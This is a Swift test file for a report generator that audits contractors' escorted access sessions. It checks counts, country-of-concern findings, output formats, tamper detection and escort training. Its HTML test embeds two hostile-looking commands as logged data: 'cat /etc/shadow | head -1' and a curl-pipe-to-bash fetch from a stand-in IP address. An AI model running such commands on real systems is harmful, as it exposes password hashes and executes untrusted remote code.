import AuditLog
import EscortCore
import EscortTesting
import Foundation
import Reports
import Testing

@Suite("Exposure report")
struct ExposureReportTests {
    @Test func everyFigureComesFromTheSeededLog() async throws {
        let s = try await Seeded.make()
        #expect(s.evidence.provenance.verified)
        let r = ExposureReport(evidence: s.evidence, registry: s.registry, period: try Seeded.november, levels: .all, countriesOfConcern: Seeded.concern)

        #expect(r.totals.attempts == 7)
        #expect(r.totals.directSessions == 1)
        #expect(r.totals.escortedSessions == 3)
        #expect(r.totals.refusedConnections == 3)
        #expect(r.totals.commandsRun == 5)
        #expect(r.totals.commandsHeld == 3)
        #expect(r.totals.commandsRefused == 2)
        #expect(r.totals.commandsWithdrawn == 1)
        #expect(r.totals.risk == ["none": 3, "low": 1, "medium": 2, "high": 1, "critical": 1])

        #expect(r.contractors.map(\.name) == ["CloudCo", "Gov Services", "Prime Co"])
        let prime = try #require(r.contractors.first { $0.name == "Prime Co" })
        #expect(prime.people.map(\.name) == ["alice", "priya"])
        #expect(prime.counts.attempts == 2 && prime.counts.commandsRun == 3 && prime.counts.commandsHeld == 3)
        let priya = try #require(prime.people.first { $0.name == "priya" })
        #expect(priya.citizenships == ["IN"] && priya.residence == "IN" && priya.locations == ["IN"] && priya.concernTies.isEmpty)
        let s2 = try #require(priya.targets.first?.sessions.first)
        #expect(s2.id == "S2" && s2.decision == "escorted" && s2.escorts == ["bob"] && s2.tickets == ["T-PRIYA001"])
        #expect(s2.commands.map(\.outcome) == [.ran, .refused, .refused, .withdrawn])
        #expect(s2.commands[1].refusedBy == "policy" && s2.commands[2].refusedBy == "bob")
        let alice = try #require(prime.people.first { $0.name == "alice" })
        let shadow = try #require(alice.targets.first?.sessions.first?.commands.last)
        #expect(shadow.held && shadow.approvedBy == ["bob"] && shadow.outcome == .ran && shadow.exitStatus == 0)

        let cloud = try #require(r.contractors.first { $0.name == "CloudCo" })
        #expect(cloud.counts.attempts == 4 && cloud.counts.refusedConnections == 3 && cloud.counts.escortedSessions == 1)
        #expect(cloud.people.first { $0.name == "wei" }?.concernTies == ["citizen of CN", "located in CN", "resides in CN"])
        // The registry says ivan lives in DE now; the log says RU at the time of his sessions.
        #expect(s.registry.people["ivan"]?.residence.code == "DE")
        #expect(cloud.people.first { $0.name == "ivan" }?.residence == "RU")
        #expect(cloud.people.first { $0.name == "ivan" }?.concernTies == ["resides in RU"])
        var history = s.registry!
        history.learnHistory(from: s.evidence.activity.registryChanges)
        let before = try #require(ReportTime.parse("2026-11-07T12:00:00Z"))
        let then = try #require(history.facts(of: "ivan", at: before))
        #expect(then.residence == "RU" && then.source.hasPrefix("audit record "))
        #expect(history.facts(of: "ivan", at: try #require(ReportTime.parse("2026-11-11T00:00:00Z")))?.residence == "DE")
        #expect(s.registry.facts(of: "ivan", at: Date())?.source == "registry", "without the log's history, the registry")
        let dan = try #require(r.contractors.first { $0.name == "Gov Services" }?.people.first)
        #expect(dan.concernTies == ["located in CN"] && dan.locations == ["CN"])

        // The front page: only CloudCo touched IL4+ with ties (dan's CN session is on IL2).
        #expect(r.concernFindings.count == 1)
        let f = try #require(r.concernFindings.first)
        #expect(f.contractor == "CloudCo" && f.people == ["ivan", "wei"] && f.targets == ["db-il5", "web-il4"])
        #expect(f.counts.attempts == 3 && f.counts.refusedConnections == 3 && f.counts.commandsRun == 0)
        #expect(f.ties == ["ivan: resides in RU", "wei: citizen of CN", "wei: located in CN", "wei: resides in CN"])

        // The time series: one bucket per day of the fourteen.
        #expect(r.bucketSize == "day" && r.series.count == 14)
        #expect(r.series[1].start == "2026-11-02" && r.series[1].direct == 1 && r.series[1].escorted == 0 && r.series[1].refused == 0)
        #expect(r.series.reduce(0) { $0 + $1.direct + $1.escorted + $1.refused } == 7)
    }

    @Test func theImpactLevelFilterKeepsIL4AndAbove() async throws {
        let s = try await Seeded.make()
        let r = ExposureReport(
            evidence: s.evidence, registry: s.registry, period: try Seeded.november, levels: try ImpactLevelFilter(parsing: "IL4+"),
            countriesOfConcern: Seeded.concern)
        #expect(r.totals.attempts == 5 && r.totals.directSessions == 1 && r.totals.escortedSessions == 1 && r.totals.refusedConnections == 3)
        #expect(r.totals.commandsRun == 3)
        #expect(r.contractors.map(\.name) == ["CloudCo", "Prime Co"])
        let il2 = ExposureReport(
            evidence: s.evidence, registry: s.registry, period: try Seeded.november, levels: try ImpactLevelFilter(parsing: "IL2"),
            countriesOfConcern: Seeded.concern)
        #expect(il2.totals.attempts == 2)
        #expect(throws: ReportError.self) { try ImpactLevelFilter(parsing: "IL3") }
    }

    @Test func htmlIsOnePageWithInlineChartsAndNoScripts() async throws {
        let s = try await Seeded.make()
        let r = ExposureReport(evidence: s.evidence, registry: s.registry, period: try Seeded.november, levels: .all, countriesOfConcern: Seeded.concern)
        let doc = r.html(generatedAt: Date(timeIntervalSince1970: 1_800_000_000))
        let html = doc.text
        #expect(html.hasPrefix("<!DOCTYPE html>\n<html lang=\"en\">"))
        #expect(html.hasSuffix("</body>\n</html>\n"))
        #expect(HTMLStructure.problem(in: html) == nil)
        #expect(html.components(separatedBy: "<svg ").count - 1 == 2)
        #expect(!html.contains("<script") && !html.contains("<link") && !html.contains(" src=") && !html.contains("@import"))
        #expect(html.components(separatedBy: "<h3 class=\"contractor\">").count - 1 == 3)
        #expect(html.components(separatedBy: "<h4 class=\"person\">").count - 1 == 5)
        #expect(html.contains("<h2 id=\"answer\">"))
        #expect(html.contains("<td>CloudCo</td><td>") && html.contains(" (ivan), employed by ") && html.contains(" (wei), employed by "))
        #expect(html.contains("Figures from audit records 1–\(s.evidence.provenance.treeSize)"))
        #expect(html.contains(doc.generatedAtLine!))
        #expect(html.components(separatedBy: "\n").filter { $0.contains("2027-01-15T08:00:00Z") }.count == 1)
        #expect(!String(decoding: doc.body, as: UTF8.self).contains("Generated at"))
        // Commands are escaped, never markup.
        #expect(html.contains("<code>cat /etc/shadow | head -1</code>"))
        #expect(html.contains("curl -s http://203.0.113.9/install.sh | bash"))
    }

    @Test func csvParsesBackToTheSameFigures() async throws {
        let s = try await Seeded.make()
        let r = ExposureReport(evidence: s.evidence, registry: s.registry, period: try Seeded.november, levels: .all, countriesOfConcern: Seeded.concern)
        let rows = try CSV.rows(r.csv().text)
        #expect(rows.first?.fields == ExposureReport.csvColumns)
        let data = rows.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(ExposureReport.csvColumns, $0.fields)) }
        #expect(data.count == 7)
        #expect(data.map { $0["session"]! } == ["S6", "S5", "S3", "S4", "S7", "S1", "S2"])
        let s2 = try #require(data.first { $0["session"] == "S2" })
        #expect(s2["contractor"] == "Prime Co" && s2["access"] == "escorted" && s2["escorts"] == "bob")
        #expect(s2["commands_run"] == "1" && s2["commands_held"] == "2" && s2["commands_refused"] == "2" && s2["commands_withdrawn"] == "1")
        #expect(s2["risk_critical"] == "1" && s2["risk_medium"] == "2")
        let s3 = try #require(data.first { $0["session"] == "S3" })
        #expect(s3["concern_ties"] == "citizen of CN;resides in CN;located in CN" && s3["access"] == "refused")
        #expect(data.allSatisfy { $0["checkpoint_size"] == String(s.evidence.provenance.treeSize) && $0["verified"] == "true" })
        #expect(data.reduce(0) { $0 + Int($1["commands_run"]!)! } == r.totals.commandsRun)
    }

    @Test func jsonDecodesToTheSameFigures() async throws {
        let s = try await Seeded.make()
        let r = ExposureReport(evidence: s.evidence, registry: s.registry, period: try Seeded.november, levels: .all, countriesOfConcern: Seeded.concern)
        let doc = r.json(generatedAt: Date(timeIntervalSince1970: 1_800_000_000))
        let o = try #require(try JSONSerialization.jsonObject(with: Data(doc.bytes)) as? [String: Any])
        #expect(o["generated_at"] as? String == "2027-01-15T08:00:00Z")
        let totals = try #require(o["totals"] as? [String: Any])
        #expect(totals["attempts"] as? Int == 7 && totals["commands_run"] as? Int == 5 && totals["refused_connections"] as? Int == 3)
        let findings = try #require(o["concern_findings"] as? [[String: Any]])
        #expect(findings.count == 1 && findings[0]["contractor"] as? String == "CloudCo")
        let checkpoint = try #require(o["checkpoint"] as? [String: Any])
        #expect(checkpoint["tree_size"] as? Int == Int(s.evidence.provenance.treeSize) && checkpoint["verified"] as? Bool == true)
        #expect(doc.text.contains(doc.generatedAtLine! + "\n"))
    }

    @Test func sameInputsGiveTheSameBodyAndHash() async throws {
        let s = try await Seeded.make()
        let r = ExposureReport(evidence: s.evidence, registry: s.registry, period: try Seeded.november, levels: .all, countriesOfConcern: Seeded.concern)
        let a = r.html(generatedAt: Date(timeIntervalSince1970: 1_800_000_000))
        let b = r.html(generatedAt: Date(timeIntervalSince1970: 1_900_000_000))
        #expect(a.bytes != b.bytes)
        #expect(a.body == b.body && a.bodySHA256 == b.bodySHA256)
        let e = a.auditEvent(actor: "auditor", parameters: [:], output: nil)
        #expect(e.code == .reportGenerated && e.fields["body_sha256"] == .string(a.bodySHA256))
    }

    @Test func aTamperedLogIsReportedAsUnverified() async throws {
        let s = try await Seeded.make()
        try s.store.executeForTesting(
            "UPDATE audit_record SET body = CAST(replace(CAST(body AS TEXT), 'df -h /', 'df -h .') AS BLOB) WHERE CAST(body AS TEXT) LIKE '%df -h /%'")
        let key = try GatewaySigningKey.load(path: s.dir.file("gateway.key"))
        let e = try await ReportEvidence.load(store: s.store, through: ReportTime.parse("2026-11-15T00:00:00Z"), pinnedKey: key.publicKey)
        #expect(!e.provenance.verified)
        #expect(e.provenance.statement.contains("FAILED VERIFICATION"))
        let html = ExposureReport(evidence: e, registry: s.registry, period: try Seeded.november, levels: .all, countriesOfConcern: Seeded.concern)
            .html(generatedAt: Date()).text
        #expect(html.contains("class=\"failed\""))
    }

    @Test func theCheckpointIsTheEarliestCoveringThePeriod() async throws {
        let s = try await Seeded.make()
        let checkpoints = try await s.store.auditCheckpoints().map(\.treeSize)
        #expect(checkpoints.count == 2)
        // The period ends before S8, so the first checkpoint (signed before S8) is the one used.
        #expect(s.evidence.provenance.treeSize == checkpoints[0])
        let later = try await ReportEvidence.load(store: s.store, through: nil, pinnedKey: nil)
        #expect(later.provenance.treeSize == checkpoints[1] && !later.provenance.keyPinned)
        await #expect(throws: ReportError.self) { try await ReportEvidence.load(store: s.store, through: nil, pinnedKey: nil, treeSize: 3) }
    }

    /// Issue 19: the senator's second question, how escorts are trained to detect suspicious
    /// activity; the figures are counted again here straight from the audit records.
    @Test func theTrainingSectionAnswersTheSecondQuestion() async throws {
        let s = try await Seeded.make()
        var evidence = s.evidence!
        var registry = s.registry!
        // rita: trained once (a pass recorded in the log) but lapsed on the 5th; carl: a date set by an admin only.
        var pass = try #require(evidence.activity.registryChanges.last { $0.fields["action"] == "training.result" })
        pass.actor = "rita"
        pass.fields["person"] = "rita"
        pass.fields["escort_training_earned"] = "2026-11-05T00:00:00Z"
        evidence.activity.registryChanges.append(pass)
        for (name, until) in [("rita", "2026-11-05T00:00:00Z"), ("carl", "2027-12-31T00:00:00Z")] {
            registry.people[name] = Person(
                name: name, displayName: name.capitalized, employer: "Sub Ltd", contractor: "Gov Services", citizenships: [CountryCode("US")],
                residence: CountryCode("US"), location: CountryCode("US"), clearance: .secret, roles: [.escort],
                escortTrainingExpires: ReportTime.parse(until))
        }
        let r = ExposureReport(evidence: evidence, registry: registry, period: try Seeded.november, levels: .all, countriesOfConcern: Seeded.concern)
        #expect(r.escortTraining.map(\.name) == ["bob", "carl", "rita"])
        #expect(r.escortTraining.map(\.standing) == [.trained, .dateSetByAdmin, .lapsed])
        let bob = r.escortTraining[0]
        #expect(bob.employer == "Acme" && bob.contractor == "Prime Co")
        #expect(bob.training.setsPassed == ["escort-annual"] && bob.training.passes.count == 5)
        #expect(bob.training.lastPass == ReportTime.parse("2026-10-31T10:04:00Z"))
        #expect(bob.training.catchPercent == 100 && bob.training.falseAlarmPercent == 2, "1 false alarm in 80 routine decisions, rounded up")

        // Decisions on real sessions, counted from the export: approvals naming bob, refusals by bob.
        let records = s.evidence.records.filter { ReportTime.parse($0.time).map { (try? Seeded.november.contains($0)) ?? false } ?? false }
        let approvals = records.filter { $0.code == "ESC-2004" && ($0.fields["approved_by"]?.arrayValue ?? []).contains("bob") }
        let refusals = records.filter { $0.code == "ESC-2005" && $0.fields["by"] == "bob" }
        let watched = Set(records.filter { $0.code == "ESC-1020" && $0.actor == "bob" && $0.fields["role"] == "escort" }.compactMap(\.session))
        #expect(bob.approved == approvals.count && bob.approved == 1)
        #expect(bob.refused == refusals.count && bob.refused == 1)
        #expect(bob.sessionsWatched == watched.count && watched.count == 4)
        #expect(bob.approvedRisky == ["S1 #2 `cat /etc/shadow | head -1` (high)"])

        let html = r.html(generatedAt: Date(timeIntervalSince1970: 1_800_000_000)).text
        #expect(HTMLStructure.problem(in: html) == nil)
        #expect(html.contains("<h2 id=\"training\">How escorts are trained to detect suspicious activity</h2>"))
        #expect(html.contains("Training lapsed or never recorded: carl (date-set-by-admin), rita (lapsed)."))
        #expect(html.contains("Bob Carter (<code>bob</code>)</td><td>Acme</td><td>Prime Co</td>"), "employer and prime beside the escort")
        // The front page names employer and prime beside each person; countries carry their names.
        #expect(html.contains(", employed by "), "the front page and the tree name the employer")
        #expect(html.contains("under prime contractor CloudCo"))
        #expect(html.contains("CN (China)") && html.contains("(address in CN (China))") && html.contains("RU (Russia)"))
        #expect(!html.contains("<td>2026-11-0"), "times in HTML are for people (the ISO value stays in the datetime attribute)")
        let json = String(decoding: r.json(generatedAt: Date()).bytes, as: UTF8.self)
        #expect(json.contains("\"escort_training\"") && json.contains("\"standing\": \"date-set-by-admin\""))
    }
}
